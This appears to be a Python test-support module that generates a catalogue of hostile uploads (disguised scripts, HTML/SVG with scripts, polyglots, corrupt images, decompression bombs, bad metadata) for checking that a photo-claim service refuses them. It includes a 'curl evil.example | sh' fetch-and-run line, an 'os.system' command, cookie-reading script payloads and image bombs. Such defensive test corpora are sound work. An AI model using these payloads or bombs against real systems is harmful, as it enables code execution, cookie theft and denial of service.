"""Files a claim must never accept, built in code: not images, broken images, bombs, oddities.

Nothing here is a committed binary: each file is generated from a small Pillow / pillow-heif
image or written byte by byte, so the corpus documents how each attack is made. It is one
catalogue, longer than our other modules, because each entry is a few lines and the list is
read as a whole: what the service must refuse, and what it must accept in spite of oddities.
"""

import io
import random
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pillow_heif
from PIL import Image, ImageCms

from tests.support import images
from tests.support.images import (
    bilevel_png,
    encode,
    exif_segment,
    flat_webp,
    insert_png_chunks,
    jpeg_segment,
    jpeg_with_fill,
    png_chunk,
    raw_png,
)

pillow_heif.register_heif_opener()

MB = 1024 * 1024
HUGE_SIDE = 30_000  # 900 megapixels declared: 2.7 GB as RGB if anyone decoded it
BOMB_SIDE = 7745  # 60 megapixels, within the general pixel limit: 850 MB to decode as WebP


@dataclass(frozen=True)
class HostileFile:
    """One bad upload: the name it is sent under, its bytes, and what kind of attack it is."""

    filename: str
    content: bytes
    kind: str


# ---------------------------------------------------------------------------------------------
# Building blocks


def picture(size: tuple[int, int] = (96, 64)) -> Image.Image:
    """A small RGB image with real detail, so encoders produce ordinary data."""
    return images.picture(size, seed=7)


def good_jpeg() -> bytes:
    """An ordinary photo, accepted on its own: sent next to each hostile file."""
    return encode(picture((160, 120)), "JPEG", quality=85)


def png_declaring(width: int, height: int) -> bytes:
    """A small PNG whose IHDR claims another size (with a correct CRC)."""
    png = encode(picture(), "PNG")
    header = struct.pack(">II", width, height) + png[24:29]
    return png[:8] + png_chunk(b"IHDR", header) + png[33:]


def jpeg_declaring(width: int, height: int) -> bytes:
    """A small baseline JPEG whose frame header claims another size."""
    data = bytearray(encode(picture(), "JPEG"))
    frame = data.index(b"\xff\xc0")
    data[frame + 5 : frame + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def jpeg_with_frame_byte(offset: int, value: int) -> bytes:
    """A JPEG with one byte of its frame header (SOF0) changed."""
    data = bytearray(encode(picture(), "JPEG"))
    data[data.index(b"\xff\xc0") + offset] = value
    return bytes(data)


def jpeg_with_segment(segment: bytes) -> bytes:
    """A valid JPEG with an extra segment right after its start marker."""
    data = encode(picture(), "JPEG")
    return data[:2] + segment + data[2:]


def exif_with_thumbnail(thumbnail: bytes, declared_length: int | None = None) -> bytes:
    """An EXIF APP1 segment whose IFD1 carries `thumbnail` as its JPEG thumbnail."""
    ifd0 = struct.pack("<H", 1) + struct.pack("<HHII", 0x0112, 3, 1, 1) + struct.pack("<I", 26)
    thumbnail_offset = 26 + 2 + 3 * 12 + 4
    ifd1 = (
        struct.pack("<H", 3)
        + struct.pack("<HHII", 0x0103, 3, 1, 6)  # Compression: JPEG
        + struct.pack("<HHII", 0x0201, 4, 1, thumbnail_offset)
        + struct.pack("<HHII", 0x0202, 4, 1, declared_length or len(thumbnail))
        + struct.pack("<I", 0)
    )
    tiff = b"II*\x00" + struct.pack("<I", 8) + ifd0 + ifd1 + thumbnail
    return jpeg_segment(0xE1, b"Exif\x00\x00" + tiff)


def icc_segments(profile: bytes) -> bytes:
    """APP2 ICC_PROFILE segments carrying `profile`, split as the ICC spec says."""
    pieces = [profile[start : start + 60_000] for start in range(0, len(profile), 60_000)]
    return b"".join(
        jpeg_segment(0xE2, b"ICC_PROFILE\x00" + bytes((number, len(pieces))) + piece)
        for number, piece in enumerate(pieces, start=1)
    )


def broken_icc_profile() -> bytes:
    """An sRGB profile whose tag table points far outside the profile."""
    profile = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    profile[128:132] = struct.pack(">I", 0xFFFF)  # tag count
    profile[136:144] = struct.pack(">II", 0x7FFFFFF0, 0x7FFFFFF0)  # first tag: offset, size
    return bytes(profile)


def webp_with_chunk(fourcc: bytes, payload: bytes) -> bytes:
    """A lossy WebP rewritten as an extended (VP8X) file with an extra chunk."""
    plain = encode(picture(), "WEBP", quality=60)
    vp8 = plain[12:]
    flags = 0x20 if fourcc == b"ICCP" else 0
    width, height = picture().size
    vp8x = struct.pack("<B3x", flags) + (width - 1).to_bytes(3, "little")
    vp8x += (height - 1).to_bytes(3, "little")
    extra = fourcc + struct.pack("<I", len(payload)) + payload + b"\x00" * (len(payload) & 1)
    body = b"WEBP" + b"VP8X" + struct.pack("<I", 10) + vp8x + extra + vp8
    return b"RIFF" + struct.pack("<I", len(body)) + body


def webp_declaring(width: int, height: int) -> bytes:
    """A small lossy WebP behind a VP8X header whose canvas claims another size."""
    plain = encode(picture(), "WEBP", quality=60)
    vp8x = b"\x00\x00\x00\x00" + (width - 1).to_bytes(3, "little")
    vp8x += (height - 1).to_bytes(3, "little")
    body = b"WEBP" + b"VP8X" + struct.pack("<I", 10) + vp8x + plain[12:]
    return b"RIFF" + struct.pack("<I", len(body)) + body


def heic() -> bytes:
    return encode(picture(), "HEIF", quality=50)


def heic_with_brands(major: bytes, *compatible: bytes) -> bytes:
    """An HEIC image whose ftyp box names other brands (same box size, so offsets hold)."""
    data = bytearray(heic())
    ftyp = data.index(b"ftyp")
    data[ftyp + 4 : ftyp + 8] = major
    data[ftyp + 12 : ftyp + 24] = b"".join(compatible)
    return bytes(data)


def heic_declaring(width: int, height: int) -> bytes:
    """An HEIC image whose ispe property claims another size."""
    data = bytearray(heic())
    ispe = data.index(b"ispe")
    data[ispe + 8 : ispe + 16] = struct.pack(">II", width, height)
    return bytes(data)


def animated(format: str, **options) -> bytes:
    frames = [picture().rotate(angle) for angle in (90, 180)]
    return encode(picture(), format, save_all=True, append_images=frames, **options)


def half(data: bytes) -> bytes:
    return data[: len(data) // 2]


def with_garbage(data: bytes, start: int, length: int = 600) -> bytes:
    """`data` with `length` random bytes written over it from `start`."""
    garbage = random.Random(start).randbytes(length)
    return data[:start] + garbage + data[start + length :]


def png_with_corrupt_image_data() -> bytes:
    """A PNG whose compressed pixel data is garbage (with a CRC that matches the garbage)."""
    png = encode(picture(), "PNG")
    start = png.index(b"IDAT") + 4
    length = struct.unpack(">I", png[start - 8 : start - 4])[0]
    idat = with_garbage(png[start : start + length], 20, length - 40)
    return png[: start - 8] + png_chunk(b"IDAT", idat) + png[start + length + 4 :]


def png_with_huge_text(chunk_type: bytes) -> bytes:
    """A PNG carrying 20 MB of text when decompressed (zTXt, iTXt) or 5 MB as is (tEXt)."""
    if chunk_type == b"zTXt":
        payload = b"Comment\x00\x00" + zlib.compress(b"A" * (20 * MB), 9)
    elif chunk_type == b"iTXt":
        payload = b"Comment\x00\x01\x00\x00\x00" + zlib.compress(b"A" * (20 * MB), 9)
    else:
        payload = b"Comment\x00" + b"A" * (5 * MB)
    chunk = png_chunk(chunk_type, payload)
    return insert_png_chunks(encode(picture(), "PNG"), chunk, before=b"IDAT")


def psd() -> bytes:
    """A minimal Photoshop file: header, empty sections, raw 8-bit RGB data."""
    width, height = 8, 8
    header = b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, height, width, 8, 3)
    return header + struct.pack(">III", 0, 0, 0) + struct.pack(">H", 0) + bytes(3 * width * height)


def zip_holding_a_photo() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("kettle.jpg", good_jpeg())
    return buffer.getvalue()


def elf_header() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(4000)


def flat_lossy_webp(width: int, height: int) -> bytes:
    """A real lossy WebP of one colour: about 550 pixels a byte."""
    return encode(Image.new("RGB", (width, height), (120, 130, 140)), "WEBP", method=0)


def damaged_exif() -> bytes:
    """EXIF as a damaged camera file has it: a resolution of the wrong type (Pillow's DPI
    reader trips on it), the orientation, then entries pointing far outside the EXIF."""
    return exif_segment(
        [
            (0x011A, 7, 1, 5),  # XResolution as one undefined byte
            (0x0128, 3, 1, 2),  # ResolutionUnit: inches
            (0x0112, 3, 1, 6),  # Orientation: turned right
            (0x010F, 2, 40, 0x7FFFFFF0),  # Make
            (0x8769, 4, 1, 0xFFFFFF00),  # the EXIF sub-IFD
        ]
    )


def damaged_exif_payload() -> bytes:
    """The APP1 payload of damaged_exif(), for the formats that carry EXIF in a chunk or box."""
    return damaged_exif()[4:]


def jpeg_with_fill_before_restarts(count: int) -> bytes:
    """A JPEG with restart markers, `count` 0xFF fill bytes before each (legal, and rare)."""
    data = encode(picture(), "JPEG", restart_marker_blocks=4)
    scan = data.index(b"\xff\xda")
    fill = b"\xff" * count
    return data[:scan] + re.sub(rb"(?=\xff[\xd0-\xd7])", lambda _: fill, data[scan:])


def oversized_jpeg() -> bytes:
    """A real JPEG followed by padding, one byte over the default 15 MB per-photo limit."""
    data = good_jpeg()
    return data + bytes(15 * MB + 1 - len(data))


# ---------------------------------------------------------------------------------------------
# The corpus

HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>'
)
PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\ntrailer << >>\n%%EOF\n"

BUILDERS: dict[str, tuple[str, Callable[[], bytes]]] = {
    # Not an image, whatever the name says
    "html named .jpg": ("page.jpg", lambda: HTML),
    "svg with a script": ("drawing.svg", lambda: SVG),
    "svg with an xml prolog named .png": ("vector.png", lambda: b'<?xml version="1.0"?>' + SVG),
    "pdf named .jpg": ("scan.jpg", lambda: PDF),
    "shell script named .jpg": ("run.jpg", lambda: b"#!/bin/sh\ncurl evil.example | sh\n"),
    "python script named .jpeg": ("run.jpeg", lambda: b"import os\nos.system('id')\n"),
    "elf executable named .jpg": ("binary.jpg", elf_header),
    "zip archive holding a photo": ("archive.jpg", zip_holding_a_photo),
    "plain text named .png": ("notes.png", lambda: b"just some words, not a picture\n"),
    "random bytes named .jpg": ("noise.jpg", lambda: random.Random(3).randbytes(4096)),
    "polyglot: jpeg start then html": ("jpeg-html.jpg", lambda: b"\xff\xd8\xff\xe0" + HTML),
    "polyglot: png signature then html": ("png-html.png", lambda: b"\x89PNG\r\n\x1a\n" + HTML),
    "polyglot: pdf with a jpeg inside": ("pdf-jpeg.jpg", lambda: PDF + good_jpeg()),
    "polyglot: gif header as javascript": (
        "gifar.jpg",
        lambda: b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(1);//" + bytes(64),
    ),
    "riff wave named .webp": ("sound.webp", lambda: b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(28)),
    # Empty and too large
    "zero-byte file": ("empty.jpg", lambda: b""),
    "file over the per-photo size limit": ("huge-file.jpg", oversized_jpeg),
    # Truncated or corrupt
    "jpeg cut in half": ("half.jpg", lambda: half(good_jpeg())),
    "jpeg without its end marker": ("no-end.jpg", lambda: good_jpeg()[:-2]),
    "jpeg headers without scan data": (
        "headers-only.jpg",
        lambda: good_jpeg()[: good_jpeg().index(b"\xff\xda")],
    ),
    "jpeg with garbage in its scan data": (
        "garbled.jpg",
        lambda: with_garbage(good_jpeg(), good_jpeg().index(b"\xff\xda") + 20, 2000),
    ),
    "jpeg naming an undefined quantization table": (
        "no-table.jpg",
        lambda: jpeg_with_frame_byte(12, 3),
    ),
    "jpeg with 12-bit samples declared": ("twelve-bit.jpg", lambda: jpeg_with_frame_byte(4, 12)),
    "jpeg with zero height": ("zero-height.jpg", lambda: jpeg_declaring(96, 0)),
    "png cut in half": ("half.png", lambda: half(encode(picture(), "PNG"))),
    "png with corrupt compressed pixels": ("garbled.png", png_with_corrupt_image_data),
    "png signature only": ("signature.png", lambda: b"\x89PNG\r\n\x1a\n"),
    "png with zero width": ("zero-width.png", lambda: png_declaring(0, 64)),
    "webp cut in half": ("half.webp", lambda: half(encode(picture(), "WEBP"))),
    "webp with garbage in its bitstream": (
        "garbled.webp",
        lambda: with_garbage(encode(picture(), "WEBP", quality=60), 40, 400),
    ),
    "heic cut in half": ("half.heic", lambda: half(heic())),
    # Decompression bombs and absurd declared sizes
    "png bomb: real 30000 x 30000 bilevel image": (
        "bomb.png",
        lambda: bilevel_png(HUGE_SIDE, HUGE_SIDE),
    ),
    "png just over the pixel limit: 8000 x 8000": ("big.png", lambda: bilevel_png(8000, 8000)),
    "png header declaring 30000 x 30000": (
        "declared.png",
        lambda: png_declaring(HUGE_SIDE, HUGE_SIDE),
    ),
    "jpeg header declaring 30000 x 30000": (
        "declared.jpg",
        lambda: jpeg_declaring(HUGE_SIDE, HUGE_SIDE),
    ),
    "jpeg header declaring 65500 x 65500": (
        "declared-max.jpg",
        lambda: jpeg_declaring(65500, 65500),
    ),
    "webp header declaring 30000 x 30000": (
        "declared.webp",
        lambda: webp_declaring(HUGE_SIDE, HUGE_SIDE),
    ),
    "heic header declaring 30000 x 30000": (
        "declared.heic",
        lambda: heic_declaring(HUGE_SIDE, HUGE_SIDE),
    ),
    # Tiny files that decode to huge bitmaps: refused from their headers, never decoded
    "tiny-bitmap bomb: lossless webp of 60 MP in 28 bytes": (
        "flat.webp",
        lambda: flat_webp(BOMB_SIDE, BOMB_SIDE),
    ),
    "tiny-bitmap bomb: lossless webp of 16 MP in 28 bytes": (
        "flat-16mp.webp",
        lambda: flat_webp(4000, 4000),
    ),
    "tiny-bitmap bomb: animated webp of 60 MP frames": (
        "flat-animated.webp",
        lambda: flat_webp(BOMB_SIDE, BOMB_SIDE, frames=3),
    ),
    "tiny-bitmap bomb: lossy webp of 16.8 MP in 45 KB": (
        "flat-lossy.webp",
        lambda: flat_lossy_webp(4096, 4096),
    ),
    "tiny-bitmap bomb: bilevel png of 60 MP in 7 KB": (
        "flat.png",
        lambda: bilevel_png(BOMB_SIDE, BOMB_SIDE),
    ),
    "tiny-bitmap bomb: jpeg frame of 60 MP on 3 KB of data": (
        "flat.jpg",
        lambda: jpeg_declaring(BOMB_SIDE, BOMB_SIDE),
    ),
    "tiny-bitmap bomb: heic of 20 MP in 3 KB": (
        "flat.heic",
        lambda: heic_declaring(5000, 4000),
    ),
    "tiny-bitmap bomb: heic of 40 MP in 3 KB": (
        "flat-40mp.heic",
        lambda: heic_declaring(8000, 5000),
    ),
    "png with a 20 MB compressed text chunk (zTXt)": (
        "ztxt.png",
        lambda: png_with_huge_text(b"zTXt"),
    ),
    "png with a 20 MB compressed text chunk (iTXt)": (
        "itxt.png",
        lambda: png_with_huge_text(b"iTXt"),
    ),
    "png with a 5 MB uncompressed text chunk (tEXt)": (
        "text.png",
        lambda: png_with_huge_text(b"tEXt"),
    ),
    # Animated and multi-frame
    "animated gif": ("animated.gif", lambda: animated("GIF")),
    "animated png": ("animated.png", lambda: animated("PNG")),
    "animated webp": ("animated.webp", lambda: animated("WEBP")),
    "heif holding several images": ("burst.heic", lambda: animated("HEIF", quality=50)),
    "multi-page tiff": ("pages.tiff", lambda: animated("TIFF")),
    # Unusual color formats
    "cmyk jpeg": ("cmyk.jpg", lambda: encode(picture().convert("CMYK"), "JPEG")),
    "16-bit grayscale png": ("gray16.png", lambda: encode(Image.new("I;16", (8, 8), 300), "PNG")),
    "16-bit rgb png": (
        "rgb16.png",
        lambda: raw_png(4, 4, 16, 2, zlib.compress(b"".join(b"\x00" + bytes(24) for _ in "abcd"))),
    ),
    "16-bit rgba png": (
        "rgba16.png",
        lambda: raw_png(4, 4, 16, 6, zlib.compress(b"".join(b"\x00" + bytes(32) for _ in "abcd"))),
    ),
    # Hostile metadata on an otherwise ordinary photo
    "jpeg with a broken icc profile": (
        "broken-icc.jpg",
        lambda: jpeg_with_segment(icc_segments(broken_icc_profile())),
    ),
    "jpeg with an icc profile of random bytes": (
        "random-icc.jpg",
        lambda: jpeg_with_segment(icc_segments(random.Random(9).randbytes(3000))),
    ),
    "png with a broken icc profile": (
        "broken-icc.png",
        lambda: insert_png_chunks(
            encode(picture(), "PNG"),
            png_chunk(b"iCCP", b"icc\x00\x00" + zlib.compress(broken_icc_profile())),
            before=b"IDAT",
        ),
    ),
    "png whose icc profile is not compressed data": (
        "garbled-icc.png",
        lambda: insert_png_chunks(
            encode(picture(), "PNG"),
            png_chunk(b"iCCP", b"icc\x00\x00" + bytes(range(256))),
            before=b"IDAT",
        ),
    ),
    "webp with a broken icc profile": (
        "broken-icc.webp",
        lambda: webp_with_chunk(b"ICCP", broken_icc_profile()),
    ),
    # HEIC with odd brands
    "heic with unknown brands": ("brands-unknown.heic", lambda: heic_with_brands(*[b"zzzz"] * 4)),
    "heic labelled as avif": (
        "brand-avif.heic",
        lambda: heic_with_brands(b"avif", b"mif1", b"avif", b"miaf"),
    ),
    "heic labelled as an image sequence": (
        "brand-msf1.heic",
        lambda: heic_with_brands(b"msf1", b"msf1", b"hevc", b"iso8"),
    ),
    "heic labelled as a quicktime movie": (
        "brand-qt.heic",
        lambda: heic_with_brands(*[b"qt  "] * 4),
    ),
    # Image formats we do not take
    "still gif": ("still.gif", lambda: encode(picture(), "GIF")),
    "bmp": ("bitmap.bmp", lambda: encode(picture(), "BMP")),
    "tiff": ("scan.tiff", lambda: encode(picture(), "TIFF")),
    "ico": ("favicon.ico", lambda: encode(picture(), "ICO")),
    "psd": ("layers.psd", psd),
    "jpeg 2000": ("photo.jp2", lambda: encode(picture(), "JPEG2000")),
    "targa named .jpg": ("targa.jpg", lambda: encode(picture(), "TGA")),
    "portable pixmap": ("pixmap.ppm", lambda: encode(picture(), "PPM")),
}


# Hostile-looking but honest: the picture decodes, so these are accepted and stored without
# their metadata and padding (a customer cannot repair what their camera wrote).
ACCEPTED_BUILDERS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "jpeg with 14 MB of fill bytes before its scan": (
        "fill-scan.jpg",
        lambda: jpeg_with_fill(good_jpeg(), b"\xff\xda", 14 * MB),
    ),
    "jpeg with 14 MB of fill bytes before its end marker": (
        "fill-end.jpg",
        lambda: jpeg_with_fill(good_jpeg(), b"\xff\xd9", 14 * MB),
    ),
    "jpeg with 14 MB of fill bytes after its start marker": (
        "fill-start.jpg",
        lambda: good_jpeg()[:2] + b"\xff" * (14 * MB) + good_jpeg()[2:],
    ),
    "jpeg with 100 KB of fill bytes before each restart marker": (
        "fill-restarts.jpg",
        lambda: jpeg_with_fill_before_restarts(100_000),
    ),
    "jpeg whose exif thumbnail declares 65500 x 65500": (
        "thumb-bomb.jpg",
        lambda: jpeg_with_segment(exif_with_thumbnail(jpeg_declaring(65500, 65500))),
    ),
    "jpeg whose exif thumbnail is garbage of absurd length": (
        "thumb-garbage.jpg",
        lambda: jpeg_with_segment(
            exif_with_thumbnail(random.Random(5).randbytes(2000), 0x7FFFFFFF)
        ),
    ),
    "jpeg whose exif points outside itself": (
        "damaged-exif.jpg",
        lambda: jpeg_with_segment(damaged_exif()),
    ),
    "heic with damaged exif": (
        "damaged-exif.heic",
        lambda: encode(picture(), "HEIF", quality=50, exif=damaged_exif_payload()),
    ),
    "webp with damaged exif": (
        "damaged-exif.webp",
        lambda: webp_with_chunk(b"EXIF", damaged_exif_payload()),
    ),
    "png with damaged exif": (
        "damaged-exif.png",
        lambda: insert_png_chunks(
            encode(picture(), "PNG"),
            png_chunk(b"eXIf", damaged_exif_payload()[6:]),
            before=b"IDAT",
        ),
    ),
}


def corpus(builders=BUILDERS) -> list[HostileFile]:
    """Every hostile file (or every accepted one), built now; each has its own file name."""
    files = [HostileFile(name, build(), kind) for kind, (name, build) in builders.items()]
    assert len({file.filename for file in files}) == len(files), "file names must be distinct"
    return files
